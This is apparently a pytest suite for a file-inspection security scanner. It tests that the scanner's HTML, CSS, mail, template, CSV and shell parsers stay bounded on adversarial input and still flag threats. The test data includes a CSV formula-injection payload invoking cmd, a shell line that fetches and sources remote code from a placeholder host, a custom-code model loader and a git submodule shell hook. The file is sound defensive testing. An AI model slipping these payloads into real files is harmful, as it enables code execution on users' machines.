"""Hostile texts are passed once: what begins and never ends is not looked through again at each beginning.

Work is counted in characters, not in seconds.
"""

import re
from email.headerregistry import HeaderRegistry
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from corpora.inspection_case import inspected
from lockgate.core.verdict import Severity
from lockgate.inspect.errors import OverLimitError
from lockgate.inspect.inspectors import (
    data_signs,
    git_bundles,
    mail_headers,
    markup_reader,
    page_hiding,
    texts,
)

UNFINISHED = ("<a href='", "<a ", "<a b='>' ", "</a ", "<!--", "<?a", "<!a", "<![CDATA[", "<!doctype ")
"""What begins a part of a page and does not end it."""


@pytest.mark.parametrize("begun", UNFINISHED)
def test_a_page_of_beginnings_is_looked_through_a_bounded_number_of_times(begun: str) -> None:
    page = "<html>" + begun * 40_000
    reader = markup_reader.MarkupReader()
    reader.feed(page)
    with pytest.raises(OverLimitError, match="unfinished"):
        reader.close()
    most = max(markup_reader.LOOKED_AT_LEAST, markup_reader.LOOKED_THROUGH * len(page))
    assert reader.looked <= most + len(page)
    told = inspected(page.encode(), "a.html", "document")
    assert not told.complete
    assert [found.code for found in told.findings if found.code != "type-mismatch"] == ["over-limit"]


@pytest.mark.parametrize("begun", UNFINISHED)
def test_a_page_that_ends_early_is_read_to_its_end(begun: str) -> None:
    page = f"<html><p>text</p><script src='//example.org/a.js'></script>{begun}"
    told = inspected(page.encode(), "a.html", "document")
    assert told.complete
    assert ("html-script", Severity.HIGH) in {(found.code, found.severity) for found in told.findings}


@pytest.mark.parametrize("unit", ["<style>", "a", "a{", "{", "}", "a}", "a{b", "/*", "\\", "a{}b"])
def test_a_style_sheet_is_passed_once(unit: str) -> None:
    sheet = unit * 3000
    passed = [found.span() for found in page_hiding._RULE.finditer(sheet)]
    assert [start for start, _ in passed] == [0, *(end for _, end in passed[:-1])]
    assert passed[-1][1] == len(sheet)


def test_a_rule_is_read_behind_a_long_text_without_brackets() -> None:
    found = page_hiding.hiding(f"<style>{'x' * 5000}, .gone {{ display: none }}</style>")
    assert ".gone" in found.marks


@pytest.mark.parametrize(
    ("header", "bound"),
    [
        ("Content-Type: " + "a;" * 5000, "mail parameters"),
        ("Content-Disposition: " + "a;b=c;" * 5000, "mail parameters"),
        ("To: " + "a@example.org, " * 3000, "mail header"),
        ("MIME-Version: " + "(a)" * 20_000, "mail header"),
        ("\n".join(f"X-{number}: {'a ' * 400}" for number in range(1500)), "mail headers"),
    ],
)
def test_headers_of_mail_that_take_long_are_refused(header: str, bound: str) -> None:
    told = inspected(f"From: a@example.org\nSubject: b\n{header}\n\nText\n".encode(), "a.eml", "document")
    (found,) = (found for found in told.findings if found.code == "over-limit")
    assert f"limit {bound} of" in found.why
    assert not told.complete


def test_a_header_of_mail_is_read_once_however_often_it_is_asked_for(monkeypatch) -> None:
    read = []

    class Counted(HeaderRegistry):
        def __call__(self, name, value):
            read.append((name, value))
            return super().__call__(name, value)

    monkeypatch.setattr(mail_headers, "HeaderRegistry", Counted)
    names = ", ".join(f"person{number}@example.org" for number in range(200))
    message = f"From: a@example.org\nTo: {names}\nContent-Type: text/plain; charset=utf-8\n\nText\n"
    assert inspected(message.encode(), "a.eml", "document").complete
    assert len(read) == len(set(read)) >= 3


def test_parts_in_parts_are_not_compared_with_every_line() -> None:
    begun = "".join(
        f"--b{number}\nContent-Type: multipart/mixed; boundary=b{number + 1}\n\n" for number in range(300)
    )
    head = "From: a@example.org\nSubject: b\nContent-Type: multipart/mixed; boundary=b0\n\n"
    told = inspected(f"{head}{begun}{'a' * 10}{chr(10) * 400_000}".encode(), "a.eml", "document")
    assert ["mail lines by boundaries" in found.why for found in told.findings] == [True]
    assert inspected(
        f"{head}--b0\n\nText\n--b0--\n{chr(10) * 400_000}".encode(), "a.eml", "document"
    ).complete


def test_ends_of_blocks_in_templates_are_looked_for_once(monkeypatch) -> None:
    searched = []

    class Counted:
        def search(self, text, at=0):
            found = re.compile(r"[%}]\}").search(text, at)
            searched.append((found.end() if found else len(text)) - at)
            return found

    monkeypatch.setattr(data_signs, "_CLOSES", Counted())
    text = "{" * 9000 + "}}" + "{{ a }}" * 500 + "{%" * 9000
    found = list(data_signs.blocks(text))
    assert found[0] == (6998, "{" * 2000)
    assert found[1] == (9002, " a ")
    assert len(found) == 501
    assert sum(searched) <= 2 * len(text)


@pytest.mark.parametrize("blank", ["\t", "\r\n", "\n", " ", ",", ", ", "\t ", '"'])
def test_blanks_before_a_formula_are_looked_through_once(blank: str) -> None:
    """A beginning passes no place at which another one begins, so that their ways do not overlap."""
    passed = re.compile(r"(?m)(?:^|[,;\t\"])[^\S\t\n]*")
    assert texts._CSV.pattern.startswith(passed.pattern)
    text = blank * 3000
    assert sum(len(found[0]) for found in passed.finditer(text)) <= len(text)
    told = inspected(f"{text}=cmd|' /C calc'!A0\n".encode(), "a.csv", "document")
    assert "csv-formula" in {found.code for found in told.findings}


@given(st.text("{}% a", max_size=40))
def test_blocks_are_those_that_one_pattern_would_find(text: str) -> None:
    plain = re.finditer(r"\{[{%](.{1,2000}?)[%}]\}", text, re.DOTALL)
    assert list(data_signs.blocks(text)) == [(found.start(), found[1]) for found in plain]


INSPECTORS = Path(texts.__file__).parent


def test_blanks_at_the_beginning_of_lines_stay_in_their_line() -> None:
    """Else each line of a text without words would be the beginning of all that follow it."""
    found = {
        file.name: re.findall(r"(?<!\[)\^(?:\|\[[^\]]*\]\))?\\s[*+]", file.read_text())
        for file in INSPECTORS.glob("*.py")
    }
    assert {name: patterns for name, patterns in found.items() if patterns} == {
        "shell_flow.py": [r"^|[;&|\n])\s*"]  # within a window behind what was fetched
    }


@pytest.mark.parametrize(
    ("name", "text", "code"),
    [
        ("a.sh", "curl a; b\n\n\n  source <(curl https://a.example/b)\n", "shell-download"),
        ("a.sh", "curl a;\t\r\n source <(curl https://a.example/b)\n", "shell-download"),
        ("MLmodel", "flavors:\n\n\n   loader_module: evil.code\n", "model-custom-code"),
    ],
)
def test_what_begins_a_line_behind_blank_ones_is_found(name: str, text: str, code: str) -> None:
    told = inspected(text.encode(), name, "model" if name == "MLmodel" else "file")
    assert code in {found.code for found in told.findings}


def test_addresses_of_submodules_are_read_without_the_blanks_around_them() -> None:
    settings = b'[submodule "a"]\n\n\turl =  https://a.example/b  c \t\n\tpath=x\r\nupdate = !sh\n'
    assert git_bundles._URL.findall(settings) == [b"https://a.example/b  c", b"x", b"!sh"]
